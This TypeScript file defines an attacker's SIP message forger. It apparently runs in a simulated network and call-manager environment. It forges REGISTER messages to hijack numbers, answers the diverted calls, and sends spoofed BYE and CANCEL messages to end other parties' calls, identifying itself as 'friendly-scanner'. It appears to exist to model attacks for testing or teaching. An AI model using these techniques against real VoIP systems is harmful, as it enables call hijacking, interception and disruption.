import { readAddress } from "../../callmanager/sip/address.js";
import type { Audio } from "../../callmanager/sip/audio.js";
import { audioOf, CallMedia } from "../../callmanager/sip/call-media.js";
import {
  type Header,
  headerOf,
  headersOf,
  type SipMessage,
  type SipRequest,
} from "../../callmanager/sip/message.js";
import { printMessage } from "../../callmanager/sip/print-message.js";
import { readMessage } from "../../callmanager/sip/read-message.js";
import { inOrder, responseTo } from "../../callmanager/sip/responses.js";
import type { MediaAddress } from "../../callmanager/host/party.js";
import { SIP_PORT } from "../../callmanager/sip/via.js";
import type { IpStack } from "../ip/ip-stack.js";

/** A request of the attacker's, and what it is answered. */
export interface Forged {
  readonly request: SipRequest;
  /** The address to which it was sent. */
  readonly to: string;
  /** The highest status that has come back; 0: none. */
  status: number;
  /** To with the other end's tag. */
  remote: string;
}

/** A call to a number that the attacker has taken over. */
export interface TakenCall {
  readonly calling: string;
  readonly called: string;
}

/** Speaks SIP as nobody should: whatever is written in a message was made up here. */
export class SipForger {
  readonly taken: TakenCall[] = [];
  /** Where whoever answered last hears. */
  heardAt: MediaAddress | undefined;
  readonly #sent = new Map<string, Forged>();
  #numbers = 0;

  constructor(
    private readonly stack: IpStack,
    private readonly address: () => string,
    private readonly name: string,
  ) {
    stack.listen(SIP_PORT, ({ data, sourcePort }, { source }) => {
      const message = data.kind === "sip" ? readMessage(data.text) : undefined;
      if (message && message.kind !== "malformed") this.#receive(message, source, sourcePort);
    });
  }

  /** Calls a number: an INVITE with an offer of voice. */
  invite(to: string, number: string, caller: string): Forged {
    const from = `<sip:${caller}@${this.address()}>;tag=${this.#next("t")}`;
    return this.#send(to, "INVITE", {
      uri: `sip:${number}@${to}:${SIP_PORT}`,
      headers: headersOf(
        ["From", from],
        ["To", `<sip:${number}@${to}>`],
        ["Call-ID", this.#callId()],
        ["Contact", `<sip:${caller}@${this.address()}:${SIP_PORT}>`],
        ["Content-Type", "application/sdp"],
      ),
      body: this.#media().offer("sendrecv"),
    });
  }

  /** Says that a number is here from now on. */
  register(to: string, number: string): Forged {
    const who = `<sip:${number}@${to}>`;
    return this.#send(to, "REGISTER", {
      uri: `sip:${to}`,
      headers: headersOf(
        ["From", `${who};tag=${this.#next("t")}`],
        ["To", who],
        ["Call-ID", this.#callId()],
        ["Contact", `<sip:${number}@${this.address()}:${SIP_PORT}>`],
        ["Expires", "3600"],
      ),
      body: "",
    });
  }

  /** Says in the name of one end of a call that it is over. */
  bye(
    to: string,
    dialog: {
      readonly callId: string;
      readonly from: string;
      readonly to: string;
      readonly sequence: number;
      readonly number: string;
    },
  ): Forged {
    return this.#send(to, "BYE", {
      uri: `sip:${dialog.number}@${to}:${SIP_PORT}`,
      headers: headersOf(["From", dialog.from], ["To", dialog.to], ["Call-ID", dialog.callId]),
      body: "",
      sequence: dialog.sequence,
    });
  }

  /** Ends a call that an INVITE of the attacker's began. */
  hangUp({ request, to, remote, status }: Forged): void {
    const isUp = status >= 200 && status < 300;
    if (status >= 300 || status === 0) return;
    const headers = request.headers.filter(({ name }) =>
      ["From", "Call-ID", ...(isUp ? [] : ["Via", "To"])].includes(name),
    );
    const rest = isUp ? headersOf(["Via", this.#via()], ["To", remote]) : [];
    this.#transmit(to, {
      kind: "request",
      method: isUp ? "BYE" : "CANCEL",
      uri: request.uri,
      headers: inOrder([
        ...headers,
        ...rest,
        ...headersOf(["CSeq", isUp ? "2 BYE" : "1 CANCEL"], ["Max-Forwards", "70"]),
      ]),
      body: "",
    });
  }

  #send(
    to: string,
    method: string,
    {
      uri,
      headers,
      body,
      sequence = 1,
    }: { uri: string; headers: readonly Header[]; body: string; sequence?: number },
  ): Forged {
    const own = headersOf(
      ["Via", this.#via()],
      ["CSeq", `${sequence} ${method}`],
      ["Max-Forwards", "70"],
      ["User-Agent", TOOL],
    );
    const request: SipRequest = {
      kind: "request",
      method,
      uri,
      headers: inOrder([...own, ...headers]),
      body,
    };
    const forged: Forged = { request, to, status: 0, remote: headerOf(request, "To") ?? "" };
    this.#sent.set(keyOf(request), forged);
    this.#transmit(to, request);
    return forged;
  }

  #receive(message: SipMessage, source: string, port: number): void {
    if (message.kind === "request") return this.#asked(message, source, port);
    const forged = this.#sent.get(keyOf(message));
    if (!forged) return;
    forged.status = Math.max(forged.status, message.status);
    forged.remote = headerOf(message, "To") ?? forged.remote;
    const audio = audioOf(message.body);
    if (typeof audio === "object") this.heardAt = { address: audio.address, port: audio.port };
    if (forged.request.method === "INVITE" && message.status >= 200)
      this.#acknowledge(forged, message.status);
  }

  #acknowledge({ request, to, remote }: Forged, status: number): void {
    const kept = ["From", "Call-ID", ...(status >= 300 ? ["Via"] : [])];
    const own = status >= 300 ? [] : headersOf(["Via", this.#via()]);
    const rest = headersOf(["To", remote], ["CSeq", "1 ACK"], ["Max-Forwards", "70"]);
    this.#transmit(to, {
      kind: "request",
      method: "ACK",
      uri: request.uri,
      headers: inOrder([...request.headers.filter(({ name }) => kept.includes(name)), ...own, ...rest]),
      body: "",
    });
  }

  /** Whoever calls a number that was taken over gets the attacker. */
  #asked(request: SipRequest, source: string, port: number): void {
    if (request.method === "ACK") return;
    const isCall = request.method === "INVITE";
    const offer = isCall ? audioOf(request.body) : undefined;
    const body = typeof offer === "object" ? this.#answer(offer) : "";
    if (isCall)
      this.taken.push({
        calling: readAddress(headerOf(request, "From") ?? "")?.uri.user ?? "",
        called: readAddress(headerOf(request, "To") ?? "")?.uri.user ?? "",
      });
    const more = isCall
      ? headersOf(
          ["Contact", `<sip:${this.name}@${this.address()}:${SIP_PORT}>`],
          ["Content-Type", "application/sdp"],
        )
      : [];
    const from = { transport: "udp", address: source, port } as const;
    const { response, to } = responseTo(request, from, 200, this.#next("t"), more, body);
    this.#transmit(to.address, response, to.port);
  }

  #transmit(destination: string, message: SipMessage, port: number = SIP_PORT): void {
    const data = { kind: "sip", text: printMessage(message) } as const;
    this.stack.send({
      destination,
      data: { kind: "udp", sourcePort: SIP_PORT, destinationPort: port, data },
    });
  }

  #answer(offer: Audio): string {
    const media = this.#media();
    const [codec] = media.common(offer);
    return codec ? media.answer(offer, codec, "sendrecv") : "";
  }

  #media(): CallMedia {
    return new CallMedia(
      {
        address: this.address(),
        port: VOICE_PORT,
        codecs: ["g711ulaw", "g711alaw", "g729r8"],
        takesEvents: false,
      },
      1,
    );
  }

  #via(): string {
    return `SIP/2.0/UDP ${this.address()}:${SIP_PORT};branch=z9hG4bK${this.#next("b")}`;
  }

  #callId(): string {
    return `${this.#next("c")}@${this.address()}`;
  }

  #next(letter: string): string {
    return `${letter}${++this.#numbers}`;
  }
}

/** How the usual tool for such things names itself. */
const TOOL = "friendly-scanner";

/** Where the attacker hears. */
export const VOICE_PORT = 20_000;

function keyOf(message: SipMessage): string {
  return `${headerOf(message, "Call-ID") ?? ""} ${headerOf(message, "CSeq") ?? ""}`;
}
